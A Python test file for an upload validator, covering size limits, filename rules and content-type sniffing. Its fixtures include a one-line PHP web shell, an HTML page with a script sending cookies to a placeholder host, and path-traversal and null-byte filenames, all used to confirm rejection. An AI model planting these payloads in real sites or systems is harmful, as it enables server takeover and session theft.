"""Tests for upload validation and content sniffing."""

import magic
import pytest

from filedesk.uploads import UploadPayload, UploadStatus, UploadValidator, sniff_content_type

MIN_SIZE = 1024
MAX_SIZE = 5 * 1024 * 1024

PHP_SHELL = b"<?php system($_GET['c']); ?>\n" + b"#" * 2000
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>invoice</title>"
    b"<script>document.location='https://example.invalid/?c='+document.cookie</script>"
    b"</head><body>" + b"<p>pay now</p>" * 100 + b"</body></html>\n"
)


@pytest.fixture
def validator():
    return UploadValidator(min_size=MIN_SIZE, max_size=MAX_SIZE)


def text_of(size):
    return UploadPayload(data=b"a" * size)


def test_valid_text_upload_passes(validator):
    assert validator.validate(text_of(2048), "notes.txt") is None


@pytest.mark.parametrize("size", [MIN_SIZE, MAX_SIZE])
def test_sizes_on_the_boundary_are_accepted(validator, size):
    assert validator.validate(text_of(size), "notes.txt") is None


def test_one_byte_below_minimum_is_rejected(validator):
    reason = validator.validate(text_of(MIN_SIZE - 1), "notes.txt")
    assert reason.check == "size"
    assert reason.message == "File too small (minimum 1KB required)"


def test_one_byte_above_maximum_is_rejected(validator):
    reason = validator.validate(text_of(MAX_SIZE + 1), "notes.txt")
    assert reason.check == "size"
    assert reason.message == "File too large (maximum 5MB allowed)"


def test_missing_payload(validator):
    assert validator.validate(None, "notes.txt").message == "No file was uploaded"
    assert validator.validate(UploadPayload(data=None), "notes.txt").message == "No file was uploaded"


@pytest.mark.parametrize("status,message", [
    (UploadStatus.PARTIAL, "File was only partially uploaded"),
    (UploadStatus.TOO_LARGE, "File too large (maximum 5MB allowed)"),
    (UploadStatus.CANT_WRITE, "Failed to write file to disk"),
])
def test_transport_errors(validator, status, message):
    reason = validator.validate(UploadPayload(data=b"", status=status), "notes.txt")
    assert reason.check == "transport"
    assert reason.message == message


@pytest.mark.parametrize("filename,message", [
    ("", "Filename cannot be empty"),
    (None, "Filename cannot be empty"),
    ("a" * 252 + ".txt", "Filename too long (maximum 255 characters)"),
    ("../etc/passwd", "Filename contains invalid characters"),
    ("..", "Filename contains invalid characters"),
    (".hidden", "Filename contains invalid characters"),
    ("report 2024.txt", "Filename contains invalid characters"),
    ("evil.php%00.txt", "Filename contains invalid characters"),
    ("dir\\notes.txt", "Filename contains invalid characters"),
])
def test_filename_rules(validator, filename, message):
    reason = validator.validate(text_of(2048), filename)
    assert reason.check == "filename"
    assert reason.message == message


def test_content_type_comes_from_bytes_not_the_name(validator):
    executable = UploadPayload(data=b"MZ" + b"\x90\x00" * 1024, declared_type="text/plain")
    reason = validator.validate(executable, "notes.txt")
    assert reason.check == "content_type"
    assert reason.message == "File type not allowed"


def test_checks_stop_at_first_failure(validator):
    # too small and a bad name: only the size problem is reported
    reason = validator.validate(text_of(10), "../bad name")
    assert reason.check == "size"


@pytest.mark.parametrize("data,expected", [
    (b"%PDF-1.7\n" + b"0" * 100, "application/pdf"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 100, "image/png"),
    (b"\xff\xd8\xff\xe0" + b"\x00" * 100, "image/jpeg"),
    (b"plain old text\nwith lines\n" * 10, "text/plain"),
    (PHP_SHELL, "text/x-php"),
    (HTML_PAGE, "text/html"),
])
def test_sniff_content_type(data, expected):
    assert sniff_content_type(data) == expected


@pytest.mark.parametrize("data", [PHP_SHELL, HTML_PAGE])
def test_script_payloads_are_rejected_despite_text_name(validator, data):
    reason = validator.validate(UploadPayload(data=data, declared_type="text/plain"), "notes.txt")
    assert reason.check == "content_type"
    assert reason.message == "File type not allowed"


def test_undetectable_content_is_treated_as_binary(validator, monkeypatch):
    def broken(data, mime=False):
        raise magic.MagicException("could not load magic database")

    monkeypatch.setattr(magic, "from_buffer", broken)

    assert sniff_content_type(b"a" * 2048) == "application/octet-stream"
    assert validator.validate(text_of(2048), "notes.txt").check == "content_type"


def test_limits_default_to_environment(monkeypatch):
    monkeypatch.setenv("MIN_UPLOAD_BYTES", "10")
    monkeypatch.setenv("MAX_UPLOAD_SIZE_MB", "1")
    validator = UploadValidator()
    assert validator.min_size == 10
    assert validator.max_size == 1024 * 1024
